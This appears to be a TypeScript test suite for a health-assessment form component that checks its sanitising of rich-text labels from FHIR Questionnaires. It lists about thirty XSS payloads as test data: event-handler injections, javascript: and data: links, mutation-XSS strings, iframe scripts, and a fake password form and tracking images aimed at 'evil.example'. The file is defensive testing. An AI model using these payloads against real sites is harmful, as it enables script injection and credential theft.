import type { Questionnaire } from '@careloom/forms';
import { expect } from 'chai';
import { expectCatalogues } from '../../testing/catalogue-suite.ts';
import { everyElement, mount, until } from '../../testing/harness.ts';
import type { CareloomAssessmentForm } from './assessment-form.ts';
import './define.ts';
import { richCatalogues } from './rich/render-rich.ts';

const core = 'http://hl7.org/fhir/StructureDefinition/';
const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const evil = 'https://evil.example';

type Kind = 'xhtml' | 'markdown' | 'style';

function asked(kind: Kind, content: string, more: object = {}): Questionnaire {
  const extension = [{ url: `${core}rendering-${kind}`, [kind === 'markdown' ? 'valueMarkdown' : 'valueString']: content }];
  return {
    resourceType: 'Questionnaire',
    status: 'active',
    item: [{ linkId: 'a', type: 'string', text: 'Plain words', _text: { extension }, ...more }],
  } as unknown as Questionnaire;
}

/** Embedding facts, group A: what is given, and what the label says then. */
const hostile: readonly (readonly [name: string, kind: Kind, content: string])[] = [
  ['1 image with a handler', 'xhtml', `<img src="x" onerror="window.hurt=1"/>`],
  ['2 svg with a handler', 'xhtml', `<svg onload="window.hurt=1"><circle/></svg>`],
  ['3 script link', 'xhtml', `<a href="javascript:window.hurt=1">go</a>`],
  ['4 script link in pieces', 'xhtml', `<a href="\tjava\nscript:window.hurt=1">go</a>`],
  ['5 script link behind control characters', 'xhtml', `<a href="\u0001 javascript:window.hurt=1">go</a>`],
  ['6 data link', 'xhtml', `<a href="data:text/html,<script>window.hurt=1</script>">go</a>`],
  ['7 other script link', 'xhtml', `<a href="vbscript:hurt">go</a>`],
  ['8 frame', 'xhtml', `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`],
  ['9 object, embed', 'xhtml', `<object data="${evil}/a"></object><embed src="${evil}/b"/>`],
  ['10 base', 'xhtml', `<base href="${evil}/"/>`],
  ['11 refresh', 'xhtml', `<meta http-equiv="refresh" content="0;url=${evil}"/>`],
  ['12 style sheet', 'xhtml', `<style>@import url("${evil}/a.css");</style>`],
  ['13 style with a picture', 'xhtml', `<p style="background:url(${evil}/a.png)">a</p>`],
  ['14 overlay', 'xhtml', `<div style="position:fixed;inset:0;z-index:9999">a</div>`],
  ['15 form', 'xhtml', `<form action="${evil}"><input type="password" name="p"/><button>ok</button></form>`],
  ['16 picture from elsewhere', 'xhtml', `<img src="${evil}/t.gif" alt="pixel"/>`],
  ['17 mutation', 'xhtml', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=1&gt;"></table></math>`],
  ['18 shadow root', 'xhtml', `<div><template shadowrootmode="open"><script>window.hurt=1</script></template></div>`],
  ['19 one of ours', 'xhtml', `<careloom-provider><careloom-assessment-form>a</careloom-assessment-form></careloom-provider>`],
  ['20 names of others', 'xhtml', `<p id="config" name="getElementById" class="button">a</p>`],
  ['21 use', 'xhtml', `<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='window.hurt=1'/&gt;#x"/></svg>`],
  ['22 commands', 'xhtml', `<button popovertarget="x" command="show-modal" commandfor="y">a</button><dialog open="">b</dialog>`],
  ['23 toggle', 'xhtml', `<details ontoggle="window.hurt=1" open="">a</details>`],
  ['24 other addresses', 'xhtml', `<img srcset="${evil}/s.png 1x"/><a ping="${evil}/p" href="https://good.example/">a</a><table background="${evil}/t.png"><tr><td>a</td></tr></table>`],
  ['25 entities', 'xhtml', `<a href="&#x6A;avascript:window.hurt=1">go</a>`],
  ['26 markdown script link and HTML', 'markdown', `[x](javascript:window.hurt=1) <img src=x onerror=window.hurt=1> <script>window.hurt=1</script>`],
  ['27 markdown picture from elsewhere', 'markdown', `![pixel](${evil}/t.gif)`],
  ['28 deep nesting', 'xhtml', '<div>'.repeat(4000) + 'deep' + '</div>'.repeat(4000)],
  ['28 still deeper', 'xhtml', '<div>'.repeat(10_000) + 'deep' + '</div>'.repeat(10_000)],
  ['29 broken', 'xhtml', `<![CDATA[<script>window.hurt=1</script>]]><!-- --!><p>a<b>b</p></div><a href='`],
  ['30 turned around', 'style', 'color: red'],
];
const allowedTags = /^(A|ABBR|B|BR|DIV|EM|I|IMG|LI|OL|P|SPAN|STRONG|TABLE|TBODY|TD|TR|U|UL|DEL|CODE)$/;
const allowedAttributes = new Set(['alt', 'class', 'dir', 'href', 'rel', 'src', 'target', 'title', 'lang', 'colspan', 'rowspan', 'style', 'aria-hidden']);

describe('rich text', () => {
  const violations: string[] = [];
  const note = (event: SecurityPolicyViolationEvent): void => void violations.push(`${event.violatedDirective} ${event.blockedURI}`);
  let policy: HTMLMetaElement;
  const open: (() => void)[] = [];

  const show = async (questionnaire: Questionnaire, language?: string): Promise<HTMLElement> => {
    const { element, remove } = await mount<CareloomAssessmentForm>('careloom-assessment-form', {
      prepare: (each) => Object.assign(each, { questionnaire, language }),
    });
    open.push(remove);
    const label = (): HTMLElement | null => element.renderRoot.querySelector<HTMLElement>('.label');
    await until(() => label()?.querySelector('.rich') !== null, 'nothing rich is shown');
    return label() as HTMLElement;
  };

  before(() => {
    policy = document.createElement('meta');
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = "require-trusted-types-for 'script'; img-src 'self' data:; object-src 'none'; frame-src 'none'; form-action 'none'; base-uri 'none'";
    document.head.append(policy);
    document.addEventListener('securitypolicyviolation', note);
  });
  after(() => document.removeEventListener('securitypolicyviolation', note));
  beforeEach(() => violations.splice(0));
  afterEach(() => open.splice(0).forEach((remove) => remove()));

  it('is tested under enforced Trusted Types', async () => {
    const reported = new Promise((done) => {
      // This one is meant: nobody else hears of it.
      const hear = (event: Event): void => {
        event.stopImmediatePropagation();
        done(event);
      };
      window.addEventListener('securitypolicyviolation', hear, { capture: true, once: true });
    });
    expect(() => new DOMParser().parseFromString('<b>a</b>', 'text/html')).to.throw(TypeError);
    await reported;
  });

  for (const [name, kind, content] of hostile) {
    it(`does nothing and asks for nothing: ${name}`, async () => {
      const questionnaire = asked(kind, content, name.startsWith('30') ? { text: 'Ann \u202Egnp.exe' } : {});
      const before = JSON.stringify(questionnaire);
      const label = await show(questionnaire);
      await new Promise((done) => setTimeout(done, 20));
      for (const each of everyElement(label)) {
        expect(each.tagName).to.match(allowedTags);
        for (const { name: attribute, value } of each.attributes) {
          expect(allowedAttributes.has(attribute), `${each.tagName} ${attribute}`).to.equal(true);
          if (attribute === 'href') expect(value).to.match(/^(https:|mailto:)/);
          if (attribute === 'src') expect(value).to.match(/^data:image\/(png|jpeg|gif);base64,/);
          if (attribute === 'style') expect(kind).to.equal('style');
        }
      }
      expect((window as { hurt?: unknown }).hurt).to.equal(undefined);
      expect(violations).to.deep.equal([]);
      expect(performance.getEntriesByType('resource').filter(({ name: url }) => url.startsWith(evil))).to.deep.equal([]);
      expect(JSON.stringify(questionnaire)).to.equal(before);
      if (name.startsWith('30')) expect(label.textContent).to.contain('[U+202E]');
      if (name === '28 deep nesting') expect(label.textContent).to.contain('deep');
      if (name === '28 still deeper') expect(label.textContent).to.contain('Plain words');
    });
  }

  it('shows what is allowed', async () => {
    const label = await show(
      asked('xhtml', `<div xmlns="http://www.w3.org/1999/xhtml"><h2>Before</h2><p>Do <b>not</b> eat.&nbsp;<a href="https://good.example/page">Why</a></p><ul><li>tea</li></ul><img src="${pixel}" alt="A cup"/></div>`),
    );
    expect(label.querySelector('b')?.textContent).to.equal('not');
    expect(label.querySelector('h2')).to.equal(null);
    expect(label.querySelector('img')?.alt).to.equal('A cup');
    const link = label.querySelector('a');
    expect([link?.href, link?.target, link?.rel, link?.textContent]).to.deep.equal(['https://good.example/page', '_blank', 'noopener noreferrer', 'Why (good.example)']);
    expect(label.textContent).to.contain('eat.\u00a0');
  });

  it('reads markdown', async () => {
    const label = await show(asked('markdown', 'Take **one** pill\n\n- with *water*\n- not &lt; two\n\n<b>raw</b>'));
    expect(label.querySelector('strong')?.textContent).to.equal('one');
    expect([...label.querySelectorAll('li')].map((each) => each.textContent)).to.deep.equal(['with water', 'not < two']);
    expect(label.textContent).to.contain('<b>raw</b>');
  });

  it('follows a style only where it can be read and moves nothing', async () => {
    const label = await show(asked('style', 'color: #fefefe; background-color: #ffffff; font-weight: bold; position: fixed; background-image: url(https://evil.example/a)'));
    const { style } = label.querySelector('.rich') as HTMLElement;
    expect([style.color, style.backgroundColor, style.fontWeight]).to.deep.equal(['rgb(0, 0, 0)', 'rgb(255, 255, 255)', 'bold']);
    expect([style.position, style.backgroundImage]).to.deep.equal(['', '']);
    const red = (await show(asked('style', 'color: red'))).querySelector('.rich') as HTMLElement;
    expect([red.style.color, red.style.backgroundColor]).to.deep.equal(['rgb(255, 0, 0)', 'rgb(0, 0, 0)']);
  });

  it('tells what is left out where the author says that styles matter, and only there', async () => {
    const matters = { extension: [{ url: `${core}rendering-styleSensitive`, valueBoolean: true }] };
    const told = async (...[kind, content, more]: Parameters<typeof asked>): Promise<string | undefined> => (await show(asked(kind, content, more))).querySelector('small')?.textContent ?? undefined;
    const note = '(not shown with all of its styles)';
    for (const content of ['position: fixed', 'font-weight: bold; float: left', 'color: #fefefe; background-color: #ffffff', 'color: nothing']) {
      expect(await told('style', content, matters), content).to.equal(note);
      expect(await told('style', content), content).to.equal(undefined);
    }
    for (const content of ['color: red; font-weight: bold;', 'background: #ffffff; color: black', 'font-style:ITALIC']) expect(await told('style', content, matters), content).to.equal(undefined);
    for (const content of ['<p style="color: red">a</p>', '<b>a</b><svg/>', `<img src="${evil}/t.gif" alt="pixel"/>`, '<marquee>a</marquee>', '<p align="right">a</p>', '<b>a</b>'.padEnd(300_001)]) {
      expect(await told('xhtml', content, matters), content.slice(0, 40)).to.equal(note);
    }
    for (const content of ['<p class="x" id="y" xmlns="http://www.w3.org/1999/xhtml">a <b>b</b></p>', `<img src="${pixel}" alt=""/> b`]) expect(await told('xhtml', content, matters), content).to.equal(undefined);
    expect(await told('markdown', 'Take **one**', matters)).to.equal(undefined);
    const whole = await show({ ...asked('style', 'position: fixed'), ...matters } as Questionnaire);
    expect(whole.querySelector('small')?.lang).to.equal('en');
  });

  it('has words for that which say the same in Spanish', async () => {
    await expectCatalogues(richCatalogues);
  });

  it('says a translation rather than the rich text of another language', async () => {
    const translation = { url: `${core}translation`, extension: [{ url: 'lang', valueCode: 'es' }, { url: 'content', valueString: 'Palabras' }] };
    const rich = { url: `${core}rendering-xhtml`, valueString: '<b>Plain words</b>' };
    const style = { url: `${core}rendering-style`, valueString: 'font-style: italic' };
    const label = await show(asked('xhtml', '', { _text: { extension: [translation, rich, style] } }), 'es');
    expect(label.textContent?.trim()).to.equal('Palabras');
    expect(label.querySelector('b')).to.equal(null);
  });

  it('shows options as their author meant them', async () => {
    const display = { extension: [{ url: `${core}rendering-markdown`, valueMarkdown: '*Often*' }] };
    const { element, remove } = await mount<CareloomAssessmentForm>('careloom-assessment-form', {
      prepare: (each) => {
        each.questionnaire = asked('style', 'font-weight: bold', {
          type: 'choice',
          answerOption: [{ valueCoding: { code: 'o', display: 'Often', _display: display } }, { valueString: 'Never', _valueString: display }],
        });
      },
    });
    open.push(remove);
    await until(() => element.renderRoot.querySelectorAll('.segment em').length === 2, 'options are not rich');
  });
});
